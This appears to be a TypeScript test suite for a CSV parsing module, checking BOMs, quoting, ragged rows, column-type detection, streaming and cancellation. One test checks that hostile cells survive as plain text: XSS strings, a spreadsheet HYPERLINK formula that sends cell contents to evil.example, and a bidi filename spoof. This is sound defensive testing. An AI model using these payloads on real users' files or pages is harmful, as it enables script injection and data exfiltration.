import * as assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { Readable } from 'node:stream';
import { CsvParseError, streamCsv } from '../../src/core/csv/csvReader';
import { kindOf } from '../../src/core/csv/columnKinds';
import { parseCsv, readCsvFile } from '../../src/core/table/csvTable';
import type { CellValue } from '../../src/shared/tableModel';
import { fixture } from './fixtures';

describe('csvTable', () => {
  it('keeps the header exactly, strips the BOM and reads CRLF lines', async () => {
    const t = await readCsvFile(fixture('odd-bom-crlf.csv'));
    assert.deepEqual(t.headers, [
      'period_start',
      'period_end',
      'org_id',
      'name',
      'provider',
      'bring_your_keys',
      'requests',
    ]);
    assert.equal(t.rowCount, 3);
    assert.deepEqual(t.rows[1], ['2026-10-01', '2026-10-31', 'org-1', 'claude-sonnet-4', 'anthropic', 'false', '80']);
    assert.ok(t.rows.every((r) => r.every((c) => c === null || !/[\r\n\ufeff]/.test(c))));
    assert.deepEqual(t.warnings, []);
  });

  it('reads quoted commas, newlines and doubled quotes as exact text, and skips a blank trailing line', async () => {
    const t = await readCsvFile(fixture('odd-quoted.csv'));
    assert.equal(t.rowCount, 4);
    assert.deepEqual(
      t.rows.map((r) => r[4]),
      ['Q3 Planning, EMEA', 'Two\nlines', 'Say "hi", then "bye"', null],
    );
    assert.equal(t.rows[3][6], null, 'an empty cell is null');
    assert.deepEqual(t.warnings, []);
  });

  it('pads short rows and cuts long ones to the header, and says how many', async () => {
    const t = await readCsvFile(fixture('odd-ragged.csv'));
    assert.equal(t.rowCount, 5);
    assert.ok(t.rows.every((r) => r.length === 7));
    assert.deepEqual(t.rows[1].slice(3), ['gpt-4.1-mini', 'openai', 'false', null]);
    assert.deepEqual(t.rows[2].slice(3), ['o3', 'openai', 'false', '7']);
    assert.deepEqual(t.rows[3].slice(3), ['claude-sonnet-4', null, null, null]);
    assert.deepEqual(t.warnings, [
      '2 rows had fewer cells than the header; the missing cells are shown as empty.',
      '1 row had more cells than the header; the extra cells were left out.',
    ]);
  });

  it('reads a header-only file as zero rows with every column empty', async () => {
    const t = await readCsvFile(fixture('odd-header-only.csv'));
    assert.equal(t.headers.length, 9);
    assert.equal(t.rowCount, 0);
    assert.deepEqual(t.rows, []);
    assert.ok(t.kinds.every((k) => k === 'empty'));
  });

  it('reads an empty file as no columns, with a warning', async () => {
    const t = await parseCsv('');
    assert.deepEqual(t.headers, []);
    assert.equal(t.rowCount, 0);
    assert.deepEqual(t.warnings, ['The file is empty: it has no header row.']);
  });

  it('detects column kinds from the values', async () => {
    const t = await readCsvFile(fixture('users.csv'));
    const kind = (h: string) => t.kinds[t.headers.indexOf(h)];
    assert.equal(kind('messages_total'), 'integer');
    assert.equal(kind('name'), 'text');
    assert.equal(kind('assistants_to_messages'), 'text', 'JSON in a cell stays text');
    assert.equal(kind('joined_at'), 'text');
    const m = await readCsvFile(fixture('models-byok.csv'));
    const mk = (h: string) => m.kinds[m.headers.indexOf(h)];
    assert.equal(mk('bring_your_keys'), 'boolean');
    assert.equal(mk('total_cost_usd'), 'decimal');
    assert.equal(mk('sum_prompt_tokens'), 'integer', 'empty cells do not change a kind');
    const h = await readCsvFile(fixture('odd-header-only.csv'));
    assert.equal(h.kinds[0], 'empty');
  });

  it('merges kinds: integer with decimal is decimal, 1/0 with true/false is boolean, numbers need a majority', async () => {
    const t = await parseCsv('a,b,c,d,e,f\n1,true,1,x,,7\n2.5,false,true,1,,8\n3,no,0,y,,n/a\n');
    assert.deepEqual(t.kinds, ['decimal', 'boolean', 'boolean', 'text', 'empty', 'integer']);
    assert.equal(kindOf('TRUE'), 'boolean');
    assert.equal(kindOf('1e3'), 'decimal');
    assert.equal(kindOf('{"a":1}'), 'text');
  });

  it('keeps hostile cells as exact text', async () => {
    const t = await readCsvFile(fixture('odd-hostile.csv'));
    const names = t.rows.map((r) => r[4]);
    assert.equal(names[0], '<img src=x onerror=alert(1)>');
    assert.equal(names[1], "<script>alert('x')</script>");
    assert.equal(names[2], '=HYPERLINK("https://evil.example/?q="&A1,"Click")');
    assert.equal(names[3], '\u202etxt.exe\u202c bidi');
    assert.equal(names[4], 'zero\u200bwidth\u200cjoiner\u200dname\ufeff', 'a BOM inside the file is data');
  });

  it('gives the same table from a file, a string, a Buffer and one-byte chunks (UTF-8 split across chunks)', async () => {
    const file = fixture('users.csv');
    const bytes = readFileSync(file);
    const fromFile = await readCsvFile(file);
    assert.deepEqual(await parseCsv(bytes.toString('utf8')), fromFile);
    assert.deepEqual(await parseCsv(bytes), fromFile);
    const rows: CellValue[][] = [];
    const oneByte = Readable.from(
      (function* () {
        for (const b of bytes) yield Buffer.from([b]);
      })(),
    );
    const shape = await streamCsv(oneByte, { row: (r) => rows.push(r) });
    assert.deepEqual({ ...shape, rows }, fromFile);
    assert.equal(fromFile.rows[2][5], 'chloe.dubois@example.com');
    assert.equal(fromFile.rows[2][4], 'Chloé Dubois');
  });

  it('calls the visitor with the header first, then each row in order', async () => {
    const seen: string[] = [];
    await streamCsv(Readable.from(['x,y\n1,2\n', '3,4\n']), {
      header: (h) => seen.push(`header ${h.join('|')}`),
      row: (r) => seen.push(`row ${r.join('|')}`),
    });
    assert.deepEqual(seen, ['header x|y', 'row 1|2', 'row 3|4']);
  });

  it('warns about duplicate header names and keeps both columns', async () => {
    const t = await parseCsv('a,a,b\n1,2,3\n');
    assert.deepEqual(t.headers, ['a', 'a', 'b']);
    assert.deepEqual(t.rows[0], ['1', '2', '3']);
    assert.deepEqual(t.warnings, [
      '1 column name appears more than once in the header: "a" (columns 1, 2). Both are kept; the first is the one derived columns read.',
    ]);
  });

  it('rejects a quote that never closes with a typed parse error', async () => {
    await assert.rejects(
      parseCsv('a,b\n1,"open\n'),
      (err: unknown) => err instanceof CsvParseError && err.kind === 'parse',
    );
  });

  it('keeps a stray quote inside an unquoted cell as text', async () => {
    const t = await parseCsv('a,b\n5" screen,2\n');
    assert.deepEqual(t.rows[0], ['5" screen', '2']);
  });

  it('honours an AbortSignal, before and during the stream', async () => {
    const before = new AbortController();
    before.abort();
    await assert.rejects(parseCsv('a\n1\n', { signal: before.signal }), { name: 'AbortError' });

    const during = new AbortController();
    let rows = 0;
    const endless = Readable.from(
      (function* () {
        yield 'a,b\n';
        for (;;) yield '1,2\n'.repeat(1000);
      })(),
    );
    const run = streamCsv(
      endless,
      {
        row: () => {
          if (++rows === 5000) during.abort();
        },
      },
      { signal: during.signal },
    );
    await assert.rejects(run, { name: 'AbortError' });
    assert.ok(rows >= 5000);
  });
});
